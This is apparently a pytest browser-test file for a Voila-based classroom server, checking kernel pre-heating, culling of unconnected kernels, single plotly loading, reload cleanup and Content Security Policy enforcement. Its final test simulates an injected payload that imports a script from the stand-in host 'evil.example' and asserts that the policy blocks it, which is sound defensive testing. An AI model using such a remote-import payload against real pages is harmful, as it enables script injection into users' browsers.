"""The class server in a real browser: a pre-rendered page still honours its address, a page that
is connected keeps its kernel while unconnected ones are culled, charts share one plotly.js."""
from __future__ import annotations

import re

import pytest

from changekit.serving import NOTEBOOKS, ROOT
from changekit.testing import VoilaServer

from .helpers import check_question, finish, open_app, visible, wait_until
from .locking import lock_in
from .test_accessibility import assert_axe_finds_nothing

pytestmark = [pytest.mark.slow, pytest.mark.browser]
ARTIFACTS = ROOT / "tests" / "artifacts"


def test_a_pre_rendered_moneybags_page_takes_its_countdown_from_the_address(page):
    with VoilaServer(NOTEBOOKS, ARTIFACTS / "class-pool-browser.log", start_timeout=240,
                     serve_args=("--class-size", "1", "--lesson", "moneybags"), ready="the class is ready:") as server:
        open_app(page, server.url, "moneybags.ipynb?countdown=37", "Challenge", rendered=False)
        assert "Using pre-heated kernel" in server.log_text()
        # 37 from the address, not the default 5: the pre-rendered kernel waited for its visitor
        assert "before the count of 37?" in page.locator(".ck-app").inner_text()
        page.get_by_role("button", name="Start the countdown").click()  # robbed at page open: no count yet
        visible(page.get_by_text(re.compile(r"^(3[0-7]|[12]\d) s left$")), what="the countdown of 37 ticking")
        finish(page, "class-pool-moneybags")


def test_a_connected_page_keeps_its_kernel_while_a_bare_get_is_culled(page):
    import urllib.request

    # long enough for a loaded box's browser to load the page and connect (under 2 s its own
    # kernel was culled first), short enough for a bare GET's to go within the test
    short = ("--ClassKernelManager.unconnected_timeout=20", "--MappingKernelManager.cull_interval=1")
    with VoilaServer(NOTEBOOKS, ARTIFACTS / "class-cull-browser.log", extra_args=short) as server:
        # the bare GET first, so that its 20 s run out while the browser's page loads
        with urllib.request.urlopen(f"{server.url}/voila/render/index.ipynb", timeout=120) as response:
            response.read()  # a visitor that never opens the websocket
        bare = set(server.kernel_pids())
        assert len(bare) == 1
        open_app(page, server.url, "zombie.ipynb", re.compile(r"^Pay \$"))
        kernels = set(server.kernel_pids()) - bare
        assert len(kernels) == 1
        wait_until(page, lambda: "its page never connected" in server.log_text(), what="the bare GET's kernel culled",
                   timeout_ms=60_000)
        # the culled kernel's process exits; the browser's kernel lives on ...
        wait_until(page, lambda: set(server.kernel_pids()) == kernels, what="only the browser's kernel left",
                   timeout_ms=30_000)
        traces = check_question(page, "zombie.q1")  # ... and still answers clicks
        assert traces and all(t > 0 for t in traces)
        finish(page, "class-cull-connected")


def test_charts_load_plotly_once_from_the_kits_server(page, voila_url):
    scripts = []
    page.on("request", lambda request: scripts.append(request.url) if "plotly" in request.url else None)
    open_app(page, voila_url, "cha_ching.ipynb", "Draw from the deck")
    traces = check_question(page, "cha_ching.q1")
    assert traces and all(t > 0 for t in traces)
    # the deck explorer waits for the predictions of the questions it answers (issue 43) ...
    assert page.locator(".ck-explorer").count() == 0 and page.locator(".ck-waiting").count() == 1
    for n in range(2, 7):
        lock_in(page, f"cha_ching.q{n}")
    visible(page.locator(".ck-explorer"), what="the deck explorer, once Questions 1 to 6 are locked in")
    # ... and computes nothing until asked (a served page), then draws beside the answer
    assert page.locator(".ck-explorer .ck-chart").count() == 0
    page.locator(".ck-explorer").get_by_role("button", name="Explore").click()
    wait_until(page, lambda: page.locator(".ck-explorer .js-plotly-plot g.trace").count() == 2,
               what="the deck explorer's two decks drawn")
    assert page.locator("[role=figure][aria-label^='chart']").count() == 2  # the explorer's and the answer's
    plotly_js = [url for url in scripts if url.endswith(".min.js")]
    assert len(plotly_js) == 1 and "/voila/labextensions/changekit-assets/plotly-" in plotly_js[0]
    assert_axe_finds_nothing(page, "cha_ching-explorer-drawn")  # and the checks axe cannot make (#47)
    finish(page, "class-plotly-once")


def test_twenty_reloads_leave_no_kernel_behind(page, tmp_path):
    import json

    cells = [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
              "source": "import ipywidgets\nipywidgets.Button(description='Reload me')"}]
    (tmp_path / "small.ipynb").write_text(json.dumps({"cells": cells, "metadata": {}, "nbformat": 4,
                                                      "nbformat_minor": 5}))
    with VoilaServer(tmp_path, ARTIFACTS / "class-reloads.log") as server:
        page.goto(f"{server.url}/voila/render/small.ipynb")
        visible(page.get_by_role("button", name="Reload me"), what="the page's button")
        for _ in range(20):
            page.reload()
            visible(page.get_by_role("button", name="Reload me"), what="the reloaded page's button")
        # every reload's old page posted its shutdown (refused before: voila#1458)
        wait_until(page, lambda: len(server.kernel_pids()) == 1, what="one kernel: the open page's",
                   timeout_ms=60_000)
        assert "_xsrf" not in server.log_text()


def test_a_page_asks_no_other_host_and_breaks_no_rule_of_its_policy(page, voila_url):
    from urllib.parse import urlsplit

    server_host = urlsplit(voila_url).netloc
    elsewhere, violations = [], []
    page.on("request", lambda request: elsewhere.append(request.url)
            if urlsplit(request.url).netloc not in (server_host, "") and not request.url.startswith(("data:", "blob:"))
            else None)
    page.on("console", lambda message: violations.append(message.text)
            if "Content Security Policy" in message.text else None)
    open_app(page, voila_url, "cha_ching.ipynb", "Draw from the deck")
    traces = check_question(page, "cha_ching.q1")
    assert traces and all(t > 0 for t in traces)  # plotly drew the chart under the policy
    assert elsewhere == [] and violations == []
    finish(page, "class-no-other-host")
    # an injected payload cannot load a module from another host (on a page of its own: the
    # refusal is a console error, which would fail the watched page)
    probe = page.context.new_page()
    refused = []
    probe.on("console", lambda message: refused.append(message.text) if "Content Security Policy" in message.text
             else None)
    probe.goto(f"{voila_url}/voila/tree")
    outcome = probe.evaluate("""async () => { try { await import('//evil.example/x.js'); return 'loaded' }
                                              catch (e) { return 'blocked' } }""")
    assert outcome == "blocked" and any("evil.example" in text for text in refused)
    probe.close()
